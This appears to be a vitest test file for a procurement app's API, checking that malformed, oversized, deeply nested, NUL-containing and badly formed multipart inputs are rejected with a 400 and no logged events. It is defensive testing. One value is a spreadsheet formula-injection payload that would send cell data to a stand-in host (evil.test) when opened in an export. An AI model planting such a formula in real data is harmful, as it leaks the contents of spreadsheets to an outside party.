import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "kysely";
import { errorBody } from "@procure/contracts";
import { startTestApp, type TestApp } from "@procure/infra/testing/test-app";
import { createUsers, type TestUser } from "@procure/infra/testing/users";

let t: TestApp;
let users: Record<"requester" | "approver" | "buyer" | "finance" | "admin", TestUser>;
let requestId: string;
beforeAll(async () => {
  t = await startTestApp("malformed");
  users = await createUsers(t);
  requestId = (await t.call("POST", "/api/requests", { token: users.requester.token, body: { title: "Base", amount: 1 } })).json().id;
});
afterAll(async () => {
  await t?.stop();
});

const huge = "x".repeat(20_000);
const invalidJson = '{"title": "broken",';
/** An address a spreadsheet would run as a formula when it lands in an export. */
const formulaEmail = '=hyperlink("http://evil.test/?"&f2&"x@x","open")';

/** Per route, bodies a careless or hostile client sends. Every one must be a 400 with the error shape. */
const cases: { route: string; method: "POST" | "PATCH"; path: () => string; bodies: unknown[] }[] = [
  {
    route: "signup",
    method: "POST",
    path: () => "/api/auth/signup",
    bodies: [
      {},
      { email: 42, password: "secret-pass-4821" },
      { email: "a@b.c", password: 123456 },
      { email: huge + "@x.io", password: "secret-pass-4821" },
      { email: "a@b.c", password: "secret-pass-4821", role: "emperor" },
      { email: formulaEmail, password: "secret-pass-4821" },
      invalidJson,
      "[]",
    ],
  },
  { route: "login", method: "POST", path: () => "/api/auth/login", bodies: [{}, { email: "a@b.c" }, { email: ["a@b.c"], password: "x" }, invalidJson] },
  {
    route: "create request",
    method: "POST",
    path: () => "/api/requests",
    bodies: [
      {},
      { title: "No amount" },
      { amount: 5 },
      { title: "Negative", amount: -1 },
      { title: "Text amount", amount: "ten" },
      { title: huge, amount: 1 },
      { title: "  ", amount: 1 },
      { title: "Bad category", amount: 1, category_id: "nope" },
      // eslint-disable-next-line no-loss-of-precision -- a number JSON can write and JavaScript cannot hold is the point
      { title: "Infinite", amount: 1e309 },
      invalidJson,
      "null",
    ],
  },
  {
    route: "update status",
    method: "PATCH",
    path: () => `/api/requests/${requestId}`,
    bodies: [{}, { status: "archived" }, { status: 1 }, { status: null }, invalidJson],
  },
  { route: "approve", method: "POST", path: () => `/api/requests/${requestId}/approve`, bodies: [{ comment: 5 }, { comment: huge }, invalidJson] },
  { route: "deny", method: "POST", path: () => `/api/requests/${requestId}/deny`, bodies: [{ comment: ["no"] }, invalidJson] },
  { route: "comment", method: "POST", path: () => `/api/requests/${requestId}/comments`, bodies: [{}, { body: "" }, { body: 7 }, { body: huge }, invalidJson] },
  {
    route: "create user",
    method: "POST",
    path: () => "/api/users",
    bodies: [{}, { email: "nobody" }, { email: "a@b.c", role: "owner" }, { email: "a@b.c", password: "123" }, { email: formulaEmail }, invalidJson],
  },
];

const eventCount = async () => Number((await sql<{ n: string }>`select count(*)::text as n from events`.execute(t.runtime.db)).rows[0]!.n);

describe("malformed bodies on every route", () => {
  for (const { route, method, path, bodies } of cases) {
    it(`${route}: 400 with the error shape and nothing appended`, async () => {
      const before = await eventCount();
      for (const body of bodies) {
        const res = await t.call(method, path(), { token: users.admin.token, body: typeof body === "string" ? body : JSON.stringify(body) });
        expect(res.statusCode, `${route} ${JSON.stringify(body).slice(0, 80)} → ${res.body.slice(0, 200)}`).toBe(400);
        const parsed = errorBody.parse(res.json());
        expect(parsed.error.message.length).toBeGreaterThan(0);
      }
      expect(await eventCount()).toBe(before);
    });
  }

  it("a malformed id in the path is a 400, an unknown one a 404", async () => {
    expect((await t.call("GET", "/api/requests/not-a-uuid", { token: users.admin.token })).statusCode).toBe(400);
    expect((await t.call("GET", "/api/requests/00000000-0000-4000-8000-000000000000", { token: users.admin.token })).statusCode).toBe(404);
  });

  it("a body nested deeper than any real one is a 400 before anything walks it, on every JSON route", async () => {
    const deepObject = '{"a":'.repeat(100_000) + "1" + "}".repeat(100_000);
    const deepArray = "[".repeat(200_000) + "]".repeat(200_000);
    const routes = [
      { url: "/api/auth/signup" },
      { url: "/api/auth/login" },
      { url: "/api/work-orders" },
      { url: "/api/requests", token: users.requester.token },
      { url: `/api/requests/${requestId}/comments`, token: users.requester.token },
    ];
    const before = await eventCount();
    for (const { url, token } of routes) {
      for (const body of [deepObject, deepArray, `{"title":"ok","amount":1,"x":${deepArray}}`]) {
        const res = await t.call("POST", url, { token, body });
        expect(res.statusCode, `${url} ${body.slice(0, 20)} → ${res.body.slice(0, 200)}`).toBe(400);
        expect(errorBody.parse(res.json()).error.code).toBe("invalid_json");
      }
    }
    // Nesting a real body uses (and brackets inside text) is read as before.
    const nested = await t.call("POST", "/api/requests", { token: users.requester.token, body: { title: "[[[{{{", amount: 1, description: "]}".repeat(50) } });
    expect(nested.statusCode, nested.body).toBe(201);
    expect(await eventCount()).toBe(before + 1);
  });

  it("a body over the size limit is a 413 with the error shape", async () => {
    const res = await t.call("POST", "/api/requests", {
      token: users.admin.token,
      body: JSON.stringify({ title: "big", amount: 1, description: "y".repeat(2_000_000) }),
    });
    expect(res.statusCode).toBe(413);
    expect(errorBody.parse(res.json()).error.code).toBe("payload_too_large");
  });
});

const NUL = "a\u0000b";
const LONE = "a\uD800b";

async function expectRejected(answer: { statusCode: number; json: () => unknown }, status = 400) {
  expect(answer.statusCode).toBe(status);
  expect(errorBody.safeParse(answer.json()).success).toBe(true);
}

describe("NUL bytes and lone surrogates", () => {
  const bodies = (bad: string) => [
    { method: "POST", url: "/api/auth/signup", body: { email: `x${bad}@example.com`, password: "secret-pass-4821" } },
    { method: "POST", url: "/api/auth/signup", body: { email: "fine@example.com", password: `secret${bad}` } },
    { method: "POST", url: "/api/auth/login", body: { email: "fine@example.com", password: bad } },
    { method: "POST", url: "/api/work-orders", body: { title: bad, requesterName: "Ann", requesterEmail: "ann@example.com" } },
    { method: "POST", url: "/api/requests", body: { title: bad, amount: 3 }, token: "requester" },
    { method: "POST", url: `/api/requests/${requestId}/comments`, body: { body: bad }, token: "requester" },
    { method: "POST", url: "/api/vendors", body: { name: bad }, token: "admin" },
    { method: "POST", url: "/api/requests", body: { title: "ok", amount: 3, [`key${bad}`]: 1 }, token: "requester" },
  ];
  for (const [label, bad] of [
    ["NUL", NUL],
    ["lone surrogate", LONE],
  ] as const) {
    it(`in any body field (${label}) is a 400 with the error shape, and appends nothing`, async () => {
      const before = await t.runtime.store.countEvents();
      for (const call of bodies(bad)) {
        const token = call.token ? users[call.token as "requester" | "admin"].token : undefined;
        const answer = await t.call(call.method, call.url, { token, body: JSON.stringify(call.body), headers: { "content-type": "application/json" } });
        await expectRejected(answer);
      }
      expect(await t.runtime.store.countEvents()).toBe(before);
    });
  }

  it("in a search is a 400; bytes that are not UTF-8 in a URL arrive as U+FFFD and do no harm", async () => {
    for (const url of [`/api/requests?q=${encodeURIComponent(NUL)}`, `/api/vendors?q=${encodeURIComponent(NUL)}`, `/api/orders?q=%00`]) {
      await expectRejected(await t.call("GET", url, { token: users.admin.token }));
    }
    // A surrogate cannot be percent-encoded in UTF-8; the parser turns the attempt into a replacement character.
    const surrogate = await t.call("GET", "/api/requests?q=a%ED%A0%80", { token: users.admin.token });
    expect(surrogate.statusCode).toBe(200);
  });
});

describe("malformed multipart", () => {
  const upload = (contentType: string, payload: string) =>
    t.app.inject({
      method: "POST",
      url: `/api/requests/${requestId}/files`,
      headers: { authorization: `Bearer ${users.requester.token}`, "content-type": contentType },
      payload,
    });
  const part = '--XYZ\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n';

  it("is a 400 with the error shape whether the boundary is missing, wrong or the body cut short", async () => {
    const before = await t.runtime.store.countEvents();
    await expectRejected(await upload("multipart/form-data", `${part}--XYZ--\r\n`));
    await expectRejected(await upload("multipart/form-data; boundary=OTHER", `${part}--XYZ--\r\n`));
    await expectRejected(await upload("multipart/form-data; boundary=XYZ", part.slice(0, 60)));
    await expectRejected(await upload("multipart/form-data; boundary=XYZ", part));
    expect(await t.runtime.store.countEvents()).toBe(before);
  });

  it("is a 400 when a part's content type holds a NUL byte or other control characters", async () => {
    const before = await t.runtime.store.countEvents();
    for (const type of ["text/plain\u0000", "text/\u0000html", "text/plain\u0007; x=1"]) {
      const withType = part.replace("Content-Type: text/plain", `Content-Type: ${type}`);
      await expectRejected(await upload("multipart/form-data; boundary=XYZ", `${withType}--XYZ--\r\n`));
    }
    expect(await t.runtime.store.countEvents()).toBe(before);
  });
});

describe("query parameters out of range", () => {
  const cursor = (...parts: string[]) => Buffer.from(JSON.stringify(parts)).toString("base64url");

  it("a feed cursor whose numbers overflow the log's positions is a 400", async () => {
    for (const after of [cursor("1", "99999999999999999999"), cursor("99999999999999999999", "1"), cursor("1", "9223372036854775808")]) {
      await expectRejected(await t.call("GET", `/api/events?after=${after}`, { token: users.admin.token }));
    }
  });

  it("an export range outside the dates the database holds is a 400 before any line is sent", async () => {
    for (const q of ["from=0000-01-01&to=2026-01-01", "from=2026-01-01&to=9999-12-31", "from=0000-01-01&to=9999-12-31"]) {
      const res = await t.call("GET", `/api/audit/requests.csv?${q}`, { token: users.admin.token });
      expect(res.statusCode, `${q} → ${res.body.slice(0, 200)}`).toBe(400);
      expect(errorBody.safeParse(res.json()).success).toBe(true);
    }
  });
});

describe("other edges", () => {
  it("answers an over-long path id in the app's error shape", async () => {
    const answer = await t.call("GET", `/api/requests/${"a".repeat(300)}`, { token: users.admin.token });
    expect(answer.statusCode).toBeGreaterThanOrEqual(400);
    expect(answer.statusCode).toBeLessThan(500);
    expect(errorBody.safeParse(answer.json()).success, answer.body).toBe(true);
  });

  it("refuses a caller without the permission with 403 before looking at the body", async () => {
    for (const [url, body] of [
      ["/api/users", { nonsense: true }],
      ["/api/vendors", { name: 42 }],
      ["/api/approval-rules", { stages: "no" }],
    ] as const) {
      const answer = await t.call("POST", url, { token: users.requester.token, body });
      expect(answer.statusCode, `${url}: ${answer.body}`).toBe(403);
      expect(answer.json().error.details).toBeUndefined();
    }
  });
});
